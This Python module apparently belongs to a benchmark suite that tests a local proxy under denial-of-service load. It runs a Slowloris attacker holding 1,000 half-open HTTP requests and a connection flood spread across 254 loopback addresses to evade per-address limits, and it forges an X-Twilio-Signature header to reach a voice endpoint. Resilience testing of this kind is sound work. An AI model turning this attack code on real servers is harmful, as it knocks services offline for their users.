"""Those who mean no good, each in a process of its own, and with less priority than the rest:
they compete with whoever measures, and are to cost the server time, not the clock.
"""

import os
import socket
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from itertools import count
from multiprocessing import get_context
from multiprocessing.connection import Connection
from selectors import EVENT_READ, DefaultSelector
from time import monotonic

from benchmarks.traffic import PUBLIC, first_view
from load.asking import ANYWHERE, is_whole

SLOW_SOCKETS = 1_000
FLOOD_SOCKETS = 254  # one from each address of the network, so that no limit per address is met
_SLOW_NETWORK, _FLOOD_NETWORK = "127.0.8.{}", "127.1.{}.{}"
_OF_ONE_ADDRESS = 50  # the proxy lets an address have 64 connections
_BYTE_EVERY_S = 1.0
_PATIENCE_S = 10
_HOST = PUBLIC.partition("//")[2]
_HEAD = "POST {} HTTP/1.1\r\nHost: " + _HOST + "\r\nUser-Agent: x\r\n"
_BODY_TO_COME = "Content-Length: 60000\r\nContent-Type: text/plain\r\n\r\n"
# Without it the proxy has nothing to do with whoever asks for the phone.
_FORGED = "X-Twilio-Signature: x\r\n"
# A header that never ends, and bodies that do not, to either pool.
_BEGINNINGS = (
    _HEAD.format("/v1/visits") + "X-Slow: ",
    _HEAD.format("/v1/visits") + _BODY_TO_COME,
    _HEAD.format("/voice/ring") + _FORGED + "X-Slow: ",
    _HEAD.format("/voice/ring") + _FORGED + _BODY_TO_COME,
)
Attack = Callable[[Connection], Counter[str]]
SLOW_OPENED, SLOW_CLOSED = "slow sockets that were opened", "slow sockets that were closed"
SLOW_HELD = "bytes of slow sockets that were held"
LENT, SITES_OWN = "lent a number", "shown the site's own"
TURNED_AWAY, FAILED = "turned away by the proxy", "failed"


@contextmanager
def going_on(attacks: list[Attack]) -> Iterator[Counter[str]]:
    """What they did stands in the counter when the block has ended."""
    context = get_context("fork")
    did: Counter[str] = Counter()
    pairs = [(attack, *context.Pipe()) for attack in attacks]
    processes = [
        context.Process(target=_attacking, args=(attack, theirs), daemon=True)
        for attack, _, theirs in pairs
    ]
    for process in processes:
        process.start()
    for _, ours, _ in pairs:
        ours.recv()  # it is under way
    try:
        yield did
    finally:
        for _, ours, _ in pairs:
            ours.send("enough")
            did.update(ours.recv())
        for process in processes:
            process.join(_PATIENCE_S)


def _attacking(attack: Attack, line: Connection) -> None:
    os.nice(10)
    line.send(attack(line))


@dataclass(slots=True)
class Slowloris:
    """Opens again whatever is closed."""

    port: int
    how_many: int = SLOW_SOCKETS
    _numbers: Iterator[int] = field(default_factory=count)

    def __call__(self, line: Connection) -> Counter[str]:
        did: Counter[str] = Counter()
        sockets = [self._begun(did) for _ in range(self.how_many)]
        line.send("under way")
        while not line.poll(_BYTE_EVERY_S):
            for nth, slow in enumerate(sockets):
                if _dawdles(slow):
                    did[SLOW_HELD] += 1
                else:
                    slow.close()
                    did[SLOW_CLOSED] += 1
                    sockets[nth] = self._begun(did)
        for slow in sockets:
            slow.close()
        return did

    def _begun(self, did: Counter[str]) -> socket.socket:
        nth = next(self._numbers)
        source = _SLOW_NETWORK.format(1 + nth // _OF_ONE_ADDRESS % 250)
        slow = socket.socket()
        slow.bind((source, 0))
        slow.settimeout(_PATIENCE_S)
        slow.connect((ANYWHERE, self.port))
        slow.sendall(_BEGINNINGS[nth % len(_BEGINNINGS)].encode())
        slow.settimeout(0)
        did[SLOW_OPENED] += 1
        return slow


def _dawdles(slow: socket.socket) -> bool:
    """One byte more. False when the server has had enough."""
    try:
        slow.send(b"x")
        slow.recv(4096)
    except BlockingIOError:
        return True
    except OSError:
        return False
    return False


@dataclass(slots=True)
class Flood:
    """New visits from one network, each at once when the last one was answered. ``network``: which
    one, of 256; one that flooded a moment ago would have to wait from the beginning.
    """

    port: int
    site: str
    network: int

    def __call__(self, line: Connection) -> Counter[str]:
        did: Counter[str] = Counter()
        request = first_view(self.site, "main", 0).request
        with DefaultSelector() as selector:
            for nth in range(FLOOD_SOCKETS):
                self._connect(selector, nth, request)
            line.send("under way")
            until = monotonic() + 3600
            while not line.poll() and monotonic() < until:
                for key, _ in selector.select(0.1):
                    self._hear(selector, key.fileobj, key.data, request, did)  # type: ignore[arg-type]  # only sockets are registered
            for key in list(selector.get_map().values()):
                key.fileobj.close()  # type: ignore[union-attr]  # only sockets are registered
        return did

    def _hear(
        self,
        selector: DefaultSelector,
        flooding: socket.socket,
        heard: "_Heard",
        request: bytes,
        did: Counter[str],
    ) -> None:
        try:
            packet = flooding.recv(65536)
        except OSError:
            packet = b""
        heard.answer += packet
        if packet and not is_whole(heard.answer):
            return
        did[_kind(heard.answer)] += 1
        if packet and b"close" not in heard.answer.partition(b"\r\n\r\n")[0]:
            heard.answer = b""
            flooding.sendall(request)
        else:
            selector.unregister(flooding)
            flooding.close()
            self._connect(selector, heard.nth, request)

    def _connect(self, selector: DefaultSelector, nth: int, request: bytes) -> None:
        flooding = socket.socket()
        flooding.bind((_FLOOD_NETWORK.format(self.network % 256, 1 + nth % FLOOD_SOCKETS), 0))
        flooding.settimeout(_PATIENCE_S)
        flooding.connect((ANYWHERE, self.port))
        flooding.sendall(request)
        selector.register(flooding, EVENT_READ, _Heard(nth))


@dataclass(slots=True)
class _Heard:
    nth: int
    answer: bytes = b""


def _kind(answer: bytes) -> str:
    for mark, kind in (
        (b'"assignment":"exclusive"', LENT),
        (b'"assignment":"default"', SITES_OWN),
        (b"HTTP/1.1 429", TURNED_AWAY),
    ):
        if mark in answer:
            return kind
    return FAILED
